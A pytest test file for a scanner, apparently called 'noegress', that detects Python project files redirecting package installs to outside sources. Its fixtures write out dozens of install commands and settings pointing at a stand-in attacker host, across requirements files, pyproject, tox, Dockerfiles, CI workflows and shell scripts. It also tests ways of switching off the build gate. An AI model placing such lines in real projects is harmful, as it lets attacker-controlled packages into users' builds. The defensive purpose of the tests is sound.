"""Every kind of project file, in spellings that are odd but legal: what opens another place, and what does not."""

import pytest

from noegress.surfaces import Command, Scope, Weight
from tests.noegress.surfaces.conftest import EVIL, MIRROR, Bench

FILES = MIRROR.replace("+simple/", "+f/ab/")

OPENED: dict[str, tuple[str, str | bytes, list[int]]] = {
    "requirements, an option": ("requirements.txt", f"six\n--extra-index-url {EVIL}\n", [2]),
    "requirements, an abbreviation": ("requirements-dev.txt", f"--extra {EVIL}\n", [1]),
    "requirements, a letter and no space": ("requirements/ci.in", f"# c\n\n-i{EVIL}  # mirror\n", [3]),
    "requirements, continued": ("constraints.txt", f"six \\\n  # c\n--find-links \\\n  {EVIL}\n", [3]),
    "requirements, a URL": ("requirements.txt", f"six @ {EVIL}six.whl ; python_version > '3'\n", [1]),
    "requirements, a bare URL": ("requirements.txt", f"{EVIL}six-1.0.tar.gz#egg=six\n", [1]),
    "requirements, a repository": ("requirements.txt", "-e git+ssh://git@evil.example/six.git#egg=six\n", [1]),
    "requirements, a path outside": ("requirements.txt", "../six\n", [1]),
    "requirements, a wheel inside": ("requirements.txt", "./wheels/six-1.0-py3-none-any.whl\n", [1]),
    "requirements, another archive": ("requirements.txt", "/opt/six-1.0.zip --hash=sha256:00\n", [1]),
    "requirements, a remote file": ("requirements.txt", f"-r {EVIL}more.txt\n", [1]),
    "requirements, a variable": ("requirements.txt", "--index-url ${INDEX}/simple\n", [1]),
    "requirements, CRLF and BOM": ("requirements.txt", f"\ufeff\r\n--index-url={EVIL}\r\n", [2]),
    "requirements, UTF-16": ("requirements.txt", f"\n-f {EVIL}\n".encode("utf-16"), [2]),
    "requirements, UNC": ("requirements.txt", "--find-links \\\\server\\wheels\n", [1]),
    "poetry source": (
        "pyproject.toml",
        f'[[tool.poetry.source]]\nname = "e"\npriority = "explicit"\nurl = "{EVIL}"\n',
        [4, 1],
    ),
    "poetry, PyPI by name": ("pyproject.toml", '[[tool.poetry.source]]\nname = "PyPI"\npriority = "primary"\n', [1]),
    "poetry dependency": (
        "pyproject.toml",
        '[tool.poetry.group.dev.dependencies]\nx = { git = "https://evil.example/x" }\n',
        [2],
    ),
    "poetry, one of several": (
        "pyproject.toml",
        f'[tool.poetry.dependencies]\nx = [\n {{ version = "1" }},\n {{ url = "{EVIL}x.whl" }},\n]\n',
        [4],
    ),
    "pdm source": ("pyproject.toml", f'[tool.pdm]\nsource = [{{ name = "pypi", url = "{EVIL}" }}]\n', [2]),
    "pdm development": (
        "pyproject.toml",
        '[tool.pdm.dev-dependencies]\nx = ["-e git+https://evil.example/x#egg=x"]\n',
        [2],
    ),
    "pdm configuration": ("pdm.toml", f'[pypi]\nurl = "{MIRROR}"\n[pypi.extra]\nurl = "{EVIL}"\n', [4]),
    "hatch environment variable": (
        "pyproject.toml",
        f'[tool.hatch.envs.default.env-vars]\nPIP_EXTRA_INDEX_URL = "{EVIL}"\n',
        [2],
    ),
    "hatch source": ("pyproject.toml", f'[tool.hatch.envs.x.sources]\nsix = {{ index = "{EVIL}" }}\n', [2]),
    "hatch script": ("hatch.toml", f'[envs.x.scripts]\nrun = ["pip install -i {EVIL} six"]\n', [2]),
    "hatch requires": ("hatch.toml", f'[env]\nrequires = ["hatch-x @ {EVIL}x.whl"]\n', [2]),
    "hatch build dependency": (
        "pyproject.toml",
        f'[tool.hatch.build.targets.wheel]\ndependencies = ["x @ {EVIL}x.whl"]\n',
        [2],
    ),
    "hatch, the parent folder": ("hatch.toml", '[envs.x]\ndependencies = ["x @ {root:parent:uri}/x"]\n', [2]),
    "Pipfile source": ("Pipfile", f'[[source]]\nurl = "{EVIL}"\nname = "x"\n', [2]),
    "Pipfile without a source": ("Pipfile", '[packages]\nsix = "*"\n', [1]),
    "Pipfile package": ("Pipfile", f'[[source]]\nurl = "{MIRROR}"\n[dev]\nx = {{ file = "{EVIL}x.whl" }}\n', [4]),
    "conda channels": ("environment.yml", "name: x\nchannels:\n  - conda-forge\ndependencies:\n- six\n", [3]),
    "conda, flow style": ("environment.yaml", "channels: [https://evil.example/c]\ndependencies: [six]\n", [1]),
    "conda pip": (
        "conda-env.yml",
        f"dependencies:\n  - python\n  - pip:\n    - --extra-index-url {EVIL}\n    - six\n  - numpy\n",
        [4],
    ),
    "tox deps": ("tox.ini", f"[testenv]\ndeps =\n  six\n  py311: -i {EVIL}\n", [4]),
    "tox variable": ("tox.ini", f"[testenv:x]\nset_env = UV_INDEX={EVIL}\n", [2]),
    "tox install command": (
        "tox.ini",
        f"[testenv]\ninstall_command = pip install -f {EVIL} {{opts}} {{packages}}\n",
        [2],
    ),
    "tox.toml": ("tox.toml", f'[env_run_base]\nset_env.PIP_FIND_LINKS = "{EVIL}"\n', [2]),
    "tox in setup.cfg": ("setup.cfg", f"[metadata]\nname = x\n[tox:testenv]\ndeps = six @ {EVIL}six.whl\n", [4]),
    "tox legacy": ("pyproject.toml", f'[tool.tox]\nlegacy_tox_ini = """\n[testenv]\ndeps =\n  -f {EVIL}\n"""\n', [5]),
    "setup.cfg": ("setup.cfg", f"[options]\ninstall_requires =\n    six\n    x @ {EVIL}x.whl\n", [4]),
    "easy_install": ("setup.cfg", f"[easy_install]\nindex_url = {EVIL}\n", [2]),
    "setup.py": (
        "setup.py",
        f"from setuptools import setup\nsetup(\n  install_requires=['x @ {EVIL}x.whl'],\n)\n",
        [3],
    ),
    "script metadata": (
        "tool.py",
        f'# /// script\n# dependencies = ["six"]\n# [tool.uv]\n# index-url = "{EVIL}"\n# ///\n',
        [4],
    ),
    "script dependency": (
        "tool.py",
        f'"""Doc."""\n\n# /// script\n# dependencies = [\n#   "x @ {EVIL}x.whl",\n# ]\n# ///\n',
        [5],
    ),
    "Dockerfile": ("Dockerfile", f"FROM x\nRUN pip install \\\n    --extra-index-url {EVIL} \\\n    six\n", [2]),
    "Dockerfile variable": ("docker/x.Dockerfile", f"ENV PIP_EXTRA_INDEX_URL={EVIL}\n", [1]),
    "Dockerfile, older form": ("Containerfile", f"ENV UV_INDEX {EVIL}\n", [1]),
    "Dockerfile with a mount": ("Dockerfile", f"RUN --mount=type=cache,target=/x pip install -i {EVIL} six\n", [1]),
    "Dockerfile, exec form": ("Dockerfile", f'RUN ["pip", "install", "-i", "{EVIL}", "six"]\n', [1]),
    "a shell in a script": ("x.sh", f"sudo -H bash -lc 'cd x; pip install -f {EVIL} six'\n", [1]),
    "behind other programs": ("x.sh", f"timeout 60 xargs python3 -m pip install -i {EVIL} < list\n", [1]),
    "uv runs pip": ("x.sh", f"uv run pip install -i {EVIL} six\n", [1]),
    "PowerShell": ("x.ps1", f'$env:PIP_EXTRA_INDEX_URL = "{EVIL}"\n', [1]),
    "cmd": ("x.bat", f"set UV_INDEX={EVIL}\r\ncall pip install -i {EVIL} six\r\n", [1, 2]),
    "Makefile": ("Makefile", f"x:\n\t@python -m pip install -i {EVIL} six\n", [2]),
    "workflow step": (
        ".github/workflows/x.yml",
        f"jobs:\n  x:\n    steps:\n      - run: uv sync --index {EVIL}\n",
        [4],
    ),
    "workflow variable": (".github/workflows/x.yml", f"env:\n  PIP_INDEX_URL: '{EVIL}'\n", [2]),
    "workflow, folded": (".github/workflows/x.yml", f"run: >-\n  pip install six\n  --find-links {EVIL}\n", [2]),
    "GitLab": (".gitlab-ci.yml", "x:\n  script:\n    - 'cd x && pip install git+https://evil.example/x'\n", [3]),
    "pre-commit": (".pre-commit-config.yaml", f'x:\n  - "--extra-index-url={EVIL}"\n', [2]),
    "shell": ("build.sh", f"export PIP_FIND_LINKS={EVIL}\nif true; then uvx --from {EVIL}x.whl x; fi\n", [1, 2]),
    "user and password of a variable": ("build.sh", "pip install -i https://u:$TOKEN@evil.example/simple six\n", [1]),
    "cibuildwheel table": (
        "pyproject.toml",
        f'[tool.cibuildwheel.linux]\nenvironment = {{ PIP_EXTRA_INDEX_URL = "{EVIL}" }}\n',
        [2],
    ),
    "cibuildwheel string": (
        "pyproject.toml",
        f'[tool.cibuildwheel]\nenvironment = "A=b UV_INDEX={EVIL}"\nbefore-all = ["pip install -i {EVIL} x"]\n',
        [2, 3],
    ),
    "nox": ("noxfile.py", f'import nox\n\ndef x(session):\n    session.install("-i", "{EVIL}", "six")\n', [4]),
    "pip.conf in the tree": ("docker/pip.conf", f"[global]\nextra-index-url = {EVIL}\n", [2]),
}

CLEAN: dict[str, tuple[str, str]] = {
    "requirements": (
        "requirements.txt",
        f"-i {MIRROR}\nsix==1.0 --hash=sha256:00\n-e .\n./x[dev]\nx @ {FILES}x-1.0-py3-none-any.whl\n-r o.txt\n",
    ),
    "a comment": ("requirements.txt", f"# -i {EVIL}\nsix  # {EVIL}\n"),
    "a marker": ("requirements.txt", "tomli ; python_version < '3.11' and platform_system != 'Windows'\n"),
    "poetry": (
        "pyproject.toml",
        (
            f'[[tool.poetry.source]]\nname = "m"\nurl = "{MIRROR}"\n[tool.poetry.dependencies]\npython = "^3.11"\n'
            'x = { path = "x", develop = true }\ny = { version = "1", source = "m" }\n'
        ),
    ),
    "hatch": (
        "pyproject.toml",
        (
            '[tool.hatch.envs.x]\ndependencies = ["pytest", "x @ {root:uri}/x"]\n'
            'env-vars.UV_INDEX = "{env:MIRROR}"\nscripts.t = "pytest {args}"\n'
        ),
    ),
    "tox": (
        "tox.ini",
        (
            "[tox]\nenvlist = py311\n[testenv]\npackage = wheel\ndeps = -r{toxinidir}/requirements.txt\n  pytest: six\n"
            "set_env = PIP_INDEX_URL={env:PIP_INDEX_URL}\ncommands = pytest {posargs}\n"
        ),
    ),
    "setup.cfg": (
        "setup.cfg",
        f"[metadata]\nurl = {EVIL}\nlong_description = file: README\n[options]\ninstall_requires =\n  six\n",
    ),
    "setup.py": ("setup.py", f"from setuptools import setup\nsetup(url='{EVIL}', install_requires=['six>=1'])\n"),
    "conda": (
        "environment.yml",
        "name: x\ndependencies:\n  - python=3.11\n  - pip:\n    - six\n    - -r requirements.txt\n",
    ),
    "another YAML file": ("environment.yml", f"url: {EVIL}\n"),
    "a publishing job": (
        ".github/workflows/x.yml",
        (
            f"on: push\nenv:\n  HOME_PAGE: {EVIL}\njobs:\n  x:\n    steps:\n      # pip install -i {EVIL}\n"
            f"      - run: twine upload --repository-url {EVIL} dist/*\n      - run: echo pip install -i {EVIL}\n"
            "      - run: pip install -e .[dev] build\n      - run: pip install -i ${{ vars.MIRROR }} six\n"
        ),
    ),
    "a Makefile": (
        "Makefile",
        f"HOME = {EVIL}\nx:\n\tcurl {EVIL}\n\tpip install -i $(MIRROR) .\n\tuv sync --frozen\n",
    ),
    "a line that talks": ("x.sh", f"echo 'use pip install -i {EVIL}'; git commit -m 'pip -i {EVIL}'\n"),
    "Dockerfile": ("Dockerfile", f"FROM python:3.11\nARG PIP_INDEX_URL\nENV A=b\nRUN pip install -i {MIRROR} .\n"),
    "a program": ("client.py", f'URL = "{EVIL}"\n# --index-url {EVIL}\n"""pip install -i {EVIL}"""\n'),
    "nox": ("noxfile.py", f'URL = "{EVIL}"\ndef x(session):\n    session.install(".", "six")\n    session.run(URL)\n'),
    "a lock among tests, of no project": ("tests/pylock/pylock.toml", 'lock-version = "9"\n'),
    "test data": ("tests/data/requirements.txt", f"-i {EVIL}\n"),
    "a nested environment": ("venv/lib/requirements.txt", f"-i {EVIL}\n"),
    "documentation": ("docs/install.md", f"pip install -i {EVIL} example\n"),
}


@pytest.mark.parametrize("case", OPENED)
def test_a_file_that_opens_another_place_is_a_violation_with_its_line(bench: Bench, case: str) -> None:
    name, text, lines = OPENED[case]
    bench.write(name, text)
    found = bench.violations()
    assert [(v.file, v.line) for v in found] == [(name, line) for line in lines]
    assert all(violation.scope is Scope.PROJECT for violation in found)


@pytest.mark.parametrize("case", CLEAN)
def test_a_file_that_opens_nothing_is_clean(bench: Bench, case: str) -> None:
    name, text = CLEAN[case]
    bench.write(name, text)
    bench.write("venv/pyvenv.cfg", "home = /usr\n")
    assert bench.violations() == ()


def test_a_wheel_that_lies_in_the_project_was_never_admitted(bench: Bench) -> None:
    bench.write("wheels/six-1.0-py3-none-any.whl", b"")
    bench.write("requirements.txt", "./wheels/six-1.0-py3-none-any.whl\n")
    assert bench.places() == ["requirements.txt:1"]


def test_a_nested_file_of_requirements_is_read_once_even_in_a_circle(bench: Bench) -> None:
    bench.write("requirements.txt", "-r deep/more.list\n-c requirements.txt\n")
    bench.write("deep/more.list", f"-r ../requirements.txt\n-i {EVIL}\n")
    assert bench.places() == ["deep/more.list:2"]


def test_a_variable_of_a_requirements_file_is_expanded(bench: Bench) -> None:
    bench.write("requirements.txt", "--index-url https://${TOKEN}@mirror.internal/root/curated/${ROOT}/\n")
    assert bench.places({"ROOT": "+simple"}) == []
    assert bench.places({"ROOT": "+other"}) == ["requirements.txt:1"]


def test_scripts_are_of_their_own_weight(bench: Bench) -> None:
    bench.write("Makefile", f"x:\n\tpip install -i {EVIL} six\n")
    (violation,) = bench.violations()
    assert violation.weight is Weight.WARNING
    assert bench.report().errors == ()


def test_test_data_is_passed_over_by_name(bench: Bench) -> None:
    bench.write("tests/data/requirements.txt", f"-i {EVIL}\n")
    assert bench.report().passed_over == ("tests/data/requirements.txt",)


def test_what_only_pip_includes_by_variable_is_read(bench: Bench) -> None:
    path = bench.configure("constraints.list", f"-f {EVIL}\n")
    assert bench.places({"PIP_CONSTRAINT": str(path)}) == [f"{path}:1"]


def test_the_configuration_of_pdm_and_conda_counts_on_the_machine(bench: Bench) -> None:
    pdm = bench.configure(".config/pdm/config.toml", f'[pypi]\nurl = "{EVIL}"\n')
    conda = bench.configure(".condarc", "channels:\n  - defaults\n")
    assert bench.places() == [f"{pdm}:2", f"{conda}:2"]


@pytest.mark.parametrize("name", ["PDM_PYPI_URL", "PIPENV_PYPI_MIRROR", "CONDA_CHANNELS"])
def test_the_variables_of_the_other_tools_are_judged(bench: Bench, name: str) -> None:
    assert [violation.text for violation in bench.violations({name: EVIL})] == [f"{name}={EVIL}"]


def test_pipx_hands_options_on_to_pip(bench: Bench) -> None:
    typed = Command(tool="pipx", arguments=("install", "--pip-args=-i " + EVIL, "six"))
    (violation,) = bench.violations({}, typed)
    assert (violation.scope, violation.surface) == (Scope.COMMAND, "pipx")


class TestTheGateItself:
    GATED = "[tool.hatch.build.hooks.noegress]\n[tool.hatch.metadata.hooks.noegress]\n"

    def test_a_hatch_toml_that_replaces_the_tables_of_the_gate_is_a_violation(self, bench: Bench) -> None:
        bench.write("pyproject.toml", self.GATED)
        bench.write("hatch.toml", "[build]\n\n[metadata]\n")
        assert bench.places() == ["hatch.toml:1", "hatch.toml:3"]

    def test_a_hatch_toml_that_repeats_the_gate_is_clean(self, bench: Bench) -> None:
        bench.write("pyproject.toml", self.GATED)
        bench.write("hatch.toml", "[build.hooks.noegress]\n[metadata.hooks.noegress]\n[envs.x]\n")
        assert bench.violations() == ()

    def test_a_gate_that_is_off_by_default_is_a_violation(self, bench: Bench) -> None:
        bench.write("pyproject.toml", "[tool.hatch.build.hooks.noegress]\nenable-by-default = false\n")
        assert bench.places() == ["pyproject.toml:2"]

    def test_a_variable_that_skips_hooks_is_a_violation_where_there_is_a_gate(self, bench: Bench) -> None:
        assert bench.violations({"HATCH_BUILD_NO_HOOKS": "1"}) == ()
        bench.write("pyproject.toml", self.GATED)
        assert [v.text for v in bench.violations({"HATCH_BUILD_NO_HOOKS": "1"})] == ["HATCH_BUILD_NO_HOOKS=1"]
